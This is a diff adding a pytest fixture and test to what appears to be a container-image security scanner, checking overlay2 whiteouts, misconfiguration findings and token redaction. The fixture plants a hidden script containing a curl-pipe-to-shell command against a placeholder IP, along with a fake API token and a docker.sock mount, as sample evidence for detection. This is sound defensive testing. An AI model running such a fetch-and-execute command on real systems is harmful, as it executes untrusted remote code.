@@ -146,3 +146,66 @@ def test_choices_and_bad_roots(tmp_path):
                            "--format", "json"], capture_output=True, text=True, timeout=120)
     assert done.returncode == 0, done.stderr
     assert json.loads(done.stdout)["layers"][0]["created_by"] == "ADD rootfs.tar /"
+
+
+def add_container(root, name="web", upper_files=None, whiteouts=(), opaque=()):
+    """A stopped overlay2 container of demo/app:1 in a hand-made root: its upper folder holds
+    `upper_files`, character devices 0/0 at `whiteouts`, the opaque xattr on the `opaque` folders."""
+    base = root / "image" / "overlay2"
+    image_id = json.loads((base / "repositories.json").read_text())["Repositories"]["demo/app"]["demo/app:1"]
+    cid = hashlib.sha256(name.encode()).hexdigest()
+    (base / "layerdb" / "mounts" / cid).mkdir(parents=True)
+    (base / "layerdb" / "mounts" / cid / "mount-id").write_text("m0unt")
+    upper = root / "overlay2" / "m0unt" / "diff"
+    upper.mkdir(parents=True)
+    for path, data in (upper_files or {}).items():
+        (upper / path).parent.mkdir(parents=True, exist_ok=True)
+        if data is None:
+            (upper / path).mkdir(exist_ok=True)
+        else:
+            (upper / path).write_bytes(data)
+    for path in whiteouts:
+        (upper / path).parent.mkdir(parents=True, exist_ok=True)
+        os.mknod(upper / path, 0o600 | 0o020000, os.makedev(0, 0))
+    for path in opaque:
+        os.setxattr(upper / path, "trusted.overlay.opaque", b"y")
+    (root / "containers" / cid).mkdir(parents=True)
+    (root / "containers" / cid / "config.v2.json").write_text(json.dumps({
+        "ID": cid, "Name": f"/{name}", "Image": image_id, "State": {"Status": "exited"},
+        "Config": {"Cmd": ["sh"], "Env": ["API_TOKEN=ghp_" + "Z" * 36]},
+        "MountPoints": {"/var/run/docker.sock": {"Source": "/var/run/docker.sock",
+                                                 "Destination": "/var/run/docker.sock", "RW": True,
+                                                 "Type": "bind"}}}))
+    (root / "containers" / cid / "hostconfig.json").write_text(json.dumps({"PidMode": "host"}))
+    return cid
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="whiteouts are character devices and opaque folders trusted.* "
+                                               "xattrs: only root can make them")
+def test_an_overlay2_container_offline(tmp_path):
+    from explorer.detectors.base import ScanOptions
+    from explorer.detectors.registry import build_detectors
+    from explorer.engine import scan
+    from explorer.model import EntryKind
+
+    root, _folder, _diff_id = make_root(tmp_path, files={**FILES, "srv/old/a": b"a", "srv/old/b": b"b"})
+    cid = add_container(root, upper_files={"srv": None, "srv/old": None, "srv/old/new": b"new",
+                                           "tmp/.x/run.sh": b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n"},
+                        whiteouts=("etc/motd",), opaque=("srv/old",))
+    before = state(root)
+    for ref in ("container:web", f"container:{cid[:12]}", "web"):
+        with open_image(f"docker-root:{root}:{ref}") as source:
+            result = scan(source, build_detectors(ScanOptions()))
+            a = result.analysis
+            top = a.layers[-1]
+            assert top.ref.created_by == "runtime changes (container web)"
+            assert {(e.path, e.kind) for e in top.entries if e.is_whiteout} == {
+                ("/etc/motd", EntryKind.WHITEOUT), ("/srv/old", EntryKind.OPAQUE)}
+            final = sorted(p for p in a.final.entries if p != "/")
+            assert final == ["/etc", "/srv", "/srv/app.py", "/srv/old", "/srv/old/new", "/tmp", "/tmp/.x",
+                             "/tmp/.x/run.sh"]
+            rules = {f.rule_id for f in result.findings}
+            assert {"misconfig.container.docker-socket-mount", "misconfig.container.host-namespace"} <= rules
+            assert all("Z" * 12 not in f.evidence for f in result.findings)
+            assert source.config.cmd == ("sh",) and source.config.runtime["Name"] == "web"
+    assert state(root) == before
